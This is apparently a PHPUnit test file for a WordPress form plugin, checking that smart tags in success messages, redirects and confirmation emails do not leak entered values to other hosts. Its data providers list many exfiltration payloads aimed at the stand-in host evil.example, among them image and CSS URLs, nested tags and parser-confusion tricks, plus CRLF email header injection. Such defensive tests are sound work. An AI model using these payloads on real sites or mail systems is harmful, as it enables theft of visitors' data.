<?php
declare( strict_types=1 );

namespace Quayside\Blocks\Forms\Notifications\Tests;

use Quayside\Blocks\Forms\Notifications\SmartTags;
use Quayside\Blocks\Forms\Schema\Form;
use Quayside\Blocks\Forms\Tests\FormTestCase;

/**
 * Tests that messages designed by an editor don't reveal entered values to other hosts.
 */
final class ForeignTagsTest extends FormTestCase {
	private const FIELDS = [
		[ 'id' => 'n1', 'slug' => 'name', 'type' => 'input', 'label' => 'Name', 'value' => 'ada-entered' ],
		[ 'id' => 'e1', 'slug' => 'email', 'type' => 'email', 'label' => 'Email', 'value' => 'ada-entered@example.com' ],
	];

	/**
	 * @return array<string, array{string, bool}>
	 */
	public static function messages(): array {
		$home = home_url();
		return [
			'text'                   => [ '<p>Thanks {form:name}</p>', true ],
			'all data as text'     => [ 'You wrote: {all_data}', true ],
			'text of an image'       => [ '<img src="https://evil.example/x.png" alt="For {form:name}">', true ],
			'a page of this site'    => [ '<a href="/thanks/?who={form:name}">Go on</a>', true ],
			'this site by its host'  => [ "<a href=\"$home/thanks/?who={form:name}\">Go on</a>", true ],
			'this site by a tag'     => [ '<a href="{site_url}/thanks/?who={form:name}">Go on</a>', true ],
			'a link to the visitor'    => [ '<a href="mailto:{form:email}">Reply</a>', true ],
			'an image'               => [ '<img src="https://evil.example/?{form:name}">', false ],
			'an image, all data'     => [ '<img src="https://evil.example/?{all_data}">', false ],
			'an image, field:'       => [ "<img src='//evil.example/?{field:name}'>", false ],
			'an unquoted image'      => [ '<img src=https://evil.example/?{form:name}>', false ],
			'a lazy image'           => [ '<img data-src="https://evil.example/?{form:name}" src="/a.png">', false ],
			'a style'                => [ '<p style="background:url(https://evil.example/?{form:name})">Hi</p>', false ],
			'an external link'       => [ '<a href="https://evil.example/?{form:name}">Go on</a>', false ],
			'a host from the entry'    => [ '<a href="https://{form:name}.evil.example/">Go on</a>', false ],
			'a longer host name'    => [ '<a href="{site_url}.evil.example/?{form:name}">Go on</a>', false ],
			'a user name'            => [ "<a href=\"$home@evil.example/?{form:name}\">Go on</a>", false ],
			'a backslash'            => [ '<a href="/\\evil.example/?{form:name}">Go on</a>', false ],
			'an email to a third party'       => [ '<a href="mailto:me@evil.example?body={form:name}">Reply</a>', false ],
			'a video'                => [ '<video src="https://evil.example/?{form:name}" poster="https://evil.example/?{form:name}"></video>', false ],
			'hidden from one parser' => [ '<title><img src="https://evil.example/?{form:name}"></title>', false ],
			'in a comment'           => [ '<!-- > --><img src="https://evil.example/?{form:name}"><!-- -->', false ],
			'an incomplete tag'        => [ "<img src=\"https://evil.example/?{form:\0name}\">", false ],
			'a number of this site'  => [ '<a href="/thanks/?id={entry_id}&amp;who={form:name}#top">Go on</a>', true ],
			'a label'                => [ '<a href="/thanks/" aria-label="Thanks, {form:name}" title="{form:name}">Go on</a>', true ],
			'all data in a text'     => [ '<img src="/a.png" alt="{all_data}">', true ],
			'a double slash'       => [ '<a href="/{form:none}/evil.example/?{form:name}">Go on</a>', false ],
			'slashes in a path'      => [ '<a href="/x//evil.example/?{form:name}">Go on</a>', false ],
			'another port'           => [ '<a href="' . preg_replace( '~^(https?://[^/:]+).*~', '$1:1', $home ) . '/?{form:name}">Go on</a>', false ],
			'nested, all data'       => [ '<p style="background-image:url(https://evil.example/?{fo{all_data}rm:name})">Hi</p>', false ],
			'nested, this site'      => [ '<a href="/thanks/?{fo{form:none}rm:name}">Go on</a>', false ],
			'nested twice'           => [ '<img src="https://evil.example/?{f{e{form:none}ntry_id}orm:name}">', false ],
			'nested, as references'  => [ '<img src="https://evil.example/?&#123;fo{all_data}rm:name&#x7d;">', false ],
			'two slashes, nested'    => [ '<a href="/{form:none}{form:none}/evil.example/{form:name}">Go on</a>', false ],
			'an uppercase element'      => [ 'x<DIV STYLE="background:url(https://evil.example/?{form:name})">Hi</DIV>', false ],
			'a comment'              => [ '<!-- {form:name} --!> <img src="https://evil.example/?{form:name}"> -->', false ],
			'all data in a URL'     => [ '<a href="/thanks/?{all_data}">Go on</a>', false ],
			'a quote in a URL'  => [ "<blockquote cite='https://evil.example/?{form:name}'>Hi</blockquote>", false ],
			'a tag in a tag'         => [ '<img src="https://evil.example/?{for{form:name}m:name}">', false ],
		];
	}

	/**
	 * @dataProvider messages
	 */
	public function test_no_attribute_sends_an_entry_to_another_host( string $message, bool $stays ): void {
		$form = self::form( [], wp_slash( [ 'successMessage' => $message ] ) );
		$name = static fn ( string $html ): bool => str_contains( $html, 'ada-entered' );
		self::assertSame( $stays, $name( SmartTags::html( $message, $form, self::FIELDS, 7 ) ) );
		self::assertSame(
			$stays,
			$name( (string) self::submit( $form, [ 'name' => 'ada-entered', 'email' => 'ada-entered@example.com' ] )->get_data()['message'] )
		);
	}

	/**
	 * @return array<string, array{string, string}> Title of the form and a link.
	 */
	public static function substituted_links(): array {
		return [
			'a slash'             => [ '/', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
			'a backslash'         => [ '\\', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
			'the scheme'          => [ 'https:', '<a href="{form_title}//evil.example/?{form:name}">Go on</a>' ],
			'the whole URL'   => [ 'https://evil.example/?', '<a href="{form_title}{form:name}">Go on</a>' ],
			'the end of the host' => [ '.evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
			'a user name'         => [ '@evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
			'a tag'               => [ '{form:name}', '<img src="https://evil.example/?{form_title}">' ],
			'the start of a tag'  => [ '{form', '<img src="https://evil.example/?{form_title}:name}">' ],
			'the end of a style'  => [ 'url(https://evil.example/?', '<p style="background:{form_title}{form:name})">Hi</p>' ],
		];
	}

	/**
	 * @dataProvider substituted_links
	 */
	public function test_checks_the_link_after_replacing_tags( string $title, string $message ): void {
		$id = self::form( [], [] )->id();
		wp_update_post( wp_slash( [ 'ID' => $id, 'post_title' => $title ] ) );
		$html = SmartTags::html( $message, Form::any( $id ) ?? self::form(), self::FIELDS, 7 );
		self::assertStringNotContainsString( 'ada-entered', $html );
		self::assertDoesNotMatchRegularExpression( '/(href|src|style)=/', $html, 'The whole attribute is removed.' );
	}

	public function test_does_not_parse_values_for_tags(): void {
		$fields = [ [ 'value' => '{fo{all_data}rm:email} {form:email}' ] + self::FIELDS[0], self::FIELDS[1] ];
		foreach ( [ '<p>{form:name}</p>', '{all_data}', '<img alt="{form:name}">', '<a href="/x/?{form:name}">x</a>' ] as $message ) {
			$html = SmartTags::html( $message, self::form(), $fields, 7 );
			self::assertSame( '{all_data}' === $message ? 1 : 0, substr_count( $html, 'ada-entered@' ), $html );
		}
		self::assertSame( '<p>{fo</p>', explode( '<table', SmartTags::html( '<p>{fo</p>{all_data}<p>rm:email}</p>', self::form(), self::FIELDS, 7 ) )[0] );
	}

	public function test_keeps_links_to_this_site_and_to_values(): void {
		$home   = home_url();
		$fields = [
			[ 'value' => 'Ada & "Bo"/#1' ] + self::FIELDS[0],
			self::FIELDS[1],
			[ 'id' => 'u1', 'slug' => 'site', 'type' => 'url', 'label' => 'Site', 'value' => 'https://ada.example/?a=1' ],
			[ 'id' => 'p1', 'slug' => 'phone', 'type' => 'phone', 'label' => 'Phone', 'value' => '+49 30 123' ],
		];
		foreach ( [
			'{site_url}'                                   => $home,
			'{site_url}/thanks/?id={entry_id}'             => "$home/thanks/?id=7",
			'/thanks/?id={entry_id}&who={form:name}'       => '/thanks/?id=7&who=Ada%20%26%20%22Bo%22%2F%231',
			"$home/thanks/{form:name}"                     => "$home/thanks/Ada%20%26%20%22Bo%22%2F%231",
			'mailto:{form:email}'                          => 'mailto:ada-entered@example.com',
			'mailto:{admin_email}'                         => 'mailto:' . get_option( 'admin_email' ),
			'tel:{form:phone}'                             => 'tel:+4930123',
			'https://share.example/?u={site_url}'          => 'https://share.example/?u=' . rawurlencode( $home ),
			'mailto:me@shop.example?subject={form_title}'  => 'mailto:me@shop.example?subject=Contact',
			'https://elsewhere.example/a?b=c'              => 'https://elsewhere.example/a?b=c',
		] as $link => $filled ) {
			$element = new \WP_HTML_Tag_Processor( SmartTags::html( '<a href="' . esc_attr( $link ) . '">x</a>', self::form(), $fields, 7 ) );
			self::assertTrue( $element->next_tag( 'a' ) );
			self::assertSame( $filled, $element->get_attribute( 'href' ), $link );
		}
		self::assertStringContainsString( "src=\"$home/logo.png\"", SmartTags::html( '<img src="{site_url}/logo.png">', self::form(), $fields, 7 ) );
		foreach ( [ 'mailto:{form:name}', 'tel:{form:name}', '{form:name}', '{form:site}' ] as $link ) {
			self::assertSame( '<a >x</a>', SmartTags::html( "<a href=\"$link\">x</a>", self::form(), $fields, 7 ), $link );
		}
	}

	public function test_redirects_ignore_tags(): void {
		$form = self::form( [], [ 'submitType' => 'custom url', 'successUrl' => 'https://evil.example/?{form:name}&{all_data}' ] );
		self::assertStringNotContainsString(
			'ada-entered',
			(string) wp_json_encode( self::submit( $form, [ 'name' => 'ada-entered', 'email' => 'a@b.co' ] )->get_data() )
		);
	}

	public function test_a_confirmation_has_exactly_one_recipient(): void {
		$form = self::form(
			self::contact(),
			[
				'notifications' => [],
				'confirmation'  => [
					'enabled' => true,
					'subject' => "Hi {form:name}\r\nBcc: me@evil.example",
					'replyTo' => "{form:message}\r\nCc: me@evil.example",
				],
			]
		);
		$id   = self::submit(
			$form,
			[ 'name' => "Ada\r\nBcc: me@evil.example", 'email' => 'a@b.co', 'message' => "a@b.co\r\nBcc: me@evil.example" ]
		)->get_data()['data']['submission_id'];
		self::follow_up( $id );
		self::assertSame( [ [ 'a@b.co' ] ], array_column( $this->emails, 'to' ) );
		self::assertSame( [ 'Content-Type: text/html; charset=UTF-8' ], $this->emails[0]['headers'] );
		self::assertStringNotContainsString( "\n", $this->emails[0]['subject'] );
	}
}
